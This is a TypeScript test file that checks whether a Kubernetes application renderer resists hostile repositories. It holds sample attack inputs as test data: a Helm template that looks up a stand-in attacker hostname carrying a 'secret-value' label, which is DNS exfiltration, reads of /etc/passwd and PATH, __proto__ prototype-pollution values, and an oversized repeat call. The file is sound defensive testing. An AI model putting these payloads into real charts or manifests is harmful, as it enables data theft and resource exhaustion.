import { expect, describe, it } from 'vitest';
import { memoryTree } from '../../../test/support/memory-tree.ts';
import { parseApplication } from '../../api/application.ts';
import { systemClock } from '../../lib/clock.ts';
import { createManifestReader } from './manifest-reader.ts';
import { createRenderers, renderSource } from './render-source.ts';
import type { Rendered } from './renderer.ts';

const { signal } = new AbortController();

async function render(files: Readonly<Record<string, string>>): Promise<Rendered> {
  const parsed = parseApplication({
    apiVersion: 'argoproj.io/v1alpha1',
    kind: 'Application',
    metadata: { name: 'net', namespace: 'argocd' },
    spec: { source: { repoURL: '.', path: 'net' }, destination: { server: 'https://kubernetes.default.svc', namespace: 'net' } },
  });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
  const { source } = parsed.value.spec;
  const renderers = createRenderers(createManifestReader(1 << 20), { clock: systemClock });
  try {
    return await renderSource(renderers, { application: parsed.value, tree: memoryTree(files), path: 'net', source, field: 'spec.source', lent: new Map() }, undefined, signal);
  } finally {
    for (const renderer of renderers) await renderer.close?.();
  }
}

const chart = (template: string, values = ''): Readonly<Record<string, string>> => ({ 'net/Chart.yaml': 'apiVersion: v2\nname: net\nversion: 1.0.0\n', 'net/values.yaml': values, 'net/templates/a.yaml': template });
const config = (value: string): string => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {a: ${value}}\n`;
const problemsOf = ({ problems }: Rendered): readonly string[] => problems.map(({ severity, message }) => `${severity}: ${message}`);

describe('what a repository holds against us', { timeout: 30_000 }, () => {
  it('is refused where its manifests are larger than they may be together', async () => {
    const large = `# ${'x'.repeat(4_000_000)}\n${config('one')}`;
    const rendered = await render({ 'net/a.yaml': large, 'net/b.yaml': large, 'net/c.yaml': large });

    expect(problemsOf(rendered)).toEqual(['error: the manifests are larger than 10485760 bytes together']);
    expect(rendered.objects).toEqual([]);
  });

  it.each(['getHostByName "secret-value.attacker.example"', 'env "PATH"', 'expandenv "$PATH"', 'readFile "/etc/passwd"'])('cannot have a chart ask the network, the environment or the disk: %s', async (call) => {
    const rendered = await render(chart(config(`{{ ${call} | quote }}`)));

    // as Helm: names are looked up for nobody, and the other functions are not there
    if (call.startsWith('getHostByName')) expect(rendered.objects.map(({ object }) => object['data'])).toEqual([{ a: '' }]);
    else expect(problemsOf(rendered)).toEqual([expect.stringMatching(/^error: .*function "\w+" not defined/)]);
  });

  it('sets no prototype, by a manifest or by values of a chart', async () => {
    const hostile = 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n__proto__: {polluted: "yes"}\ndata: {__proto__: {polluted: "yes"}, constructor: "b"}\n';
    await render({ 'net/a.yaml': hostile });
    await render(chart(config('{{ .Values.polluted | quote }}'), '__proto__: {polluted: "yes"}\nconstructor: {prototype: {polluted: "yes"}}\n'));

    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    expect(Reflect.get({}, 'polluted')).toBeUndefined();
  });

  it('cannot fill the disk or the memory with a chart that asks for more than there is', async () => {
    expect(problemsOf(await render(chart(config('{{ repeat 1000000000 "x" }}'))))).toEqual([expect.stringMatching(/^error: /)]);
  });
});
